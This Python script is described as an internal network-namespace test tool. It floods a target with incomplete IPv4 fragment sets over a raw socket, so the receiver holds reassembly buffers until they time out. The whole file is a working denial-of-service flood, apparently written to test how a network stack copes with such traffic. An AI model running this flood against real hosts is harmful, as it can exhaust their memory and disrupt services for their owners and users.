#!/usr/bin/env python3
"""A flood of incomplete IPv4 fragment sets (a netns-tier test tool, not shipped).

  frag_flood.py IFNAME DST_MAC SRC_IP DST_IP DATAGRAMS

For each of DATAGRAMS idents, sends two fragments of a 4000-byte ICMP datagram, offsets 0
and 2960 (each 1480 bytes, more-fragments set), never the middle one: nothing completes and
every fragment asks the receiver to hold a buffer until its reassembly timer fires. Through
one AF_PACKET socket, checksums correct. Prints how many fragments were sent.
"""
import socket
import struct
import sys


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def main(argv):
    if len(argv) != 6:
        print(__doc__.strip(), file=sys.stderr)
        return 2
    ifname, dst_mac, src_ip, dst_ip, count = argv[1:6]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((ifname, 0))
    eth = bytes.fromhex(dst_mac.replace(":", "")) + s.getsockname()[4] + b"\x08\x00"
    src, dst = socket.inet_aton(src_ip), socket.inet_aton(dst_ip)
    sent = 0
    for ident in range(int(count)):
        for offset in (0, 2960):
            body = bytes(1480)
            if offset == 0:  # an ICMP echo header at the front of the datagram
                body = struct.pack("!BBHHH", 8, 0, 0, ident & 0xFFFF, 1) + bytes(1472)
            flags_frag = 0x2000 | (offset // 8)
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), (ident + 1) & 0xFFFF,
                             flags_frag, 64, 1, 0, src, dst)
            ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
            s.send(eth + ip + body)
            sent += 1
    print(f"frag_flood: sent {sent} fragments of {count} datagrams to {dst_ip}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
